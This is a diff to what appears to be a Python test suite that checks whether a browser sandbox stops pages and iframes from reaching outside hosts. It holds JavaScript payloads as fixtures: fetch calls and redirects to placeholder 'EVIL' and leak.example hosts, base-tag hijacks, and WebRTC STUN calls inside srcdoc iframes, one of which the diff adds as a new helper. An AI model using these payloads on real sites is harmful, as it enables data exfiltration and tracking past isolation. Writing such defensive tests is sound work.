@@ -79,7 +79,6 @@ WAYS = {
     "script's frame": "inside('src', 'javascript:fetch(\"EVIL/js-frame\")')",
     "base": "() => { const one = document.createElement('base'); one.href = 'EVIL/'; document.head.prepend(one); const img = new Image(); img.src = 'base.png'; document.body.append(img); return document.baseURI.includes('EVIL') ? 'reached' : 'kept' }",
     "srcdoc that leaves": "inside('srcdoc', '<script>location = \"http://srcdoc.leak.example/\"<\\/script>')",
-    "srcdoc that calls": "inside('srcdoc', '<script>new RTCPeerConnection({ iceServers: [{ urls: \"stun:STUN\" }] }).createOffer({ offerToReceiveAudio: true })<\\/script>')",
     "frame of a name": "inside('src', 'http://frame.leak.example/')",
     "picture that leaves": "inside('src', 'leaves.svg')",
     "calls": """async () => {
@@ -123,6 +122,12 @@ def refreshing():
         '<!doctype html><meta http-equiv="refresh" content="0; url=EVIL/refresh">'
         f"<script>const told = {{}}; setTimeout(() => {TELLS}, 600)</script>"
     )
+
+
+def calling():
+    """A frame within it, where the calls were not taken away, calls out. Whoever holds it may end its process for that."""
+    inner = "<script>const one = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] }); one.createDataChannel('a'); one.createOffer().then((offer) => one.setLocalDescription(offer))<\\/script>"
+    return f'<!doctype html><script>const told = {{}}; const one = document.createElement("iframe"); one.srcdoc = "{inner}"; document.documentElement.append(one); {TELLS}</script>'
 
 
 LEAVES = (
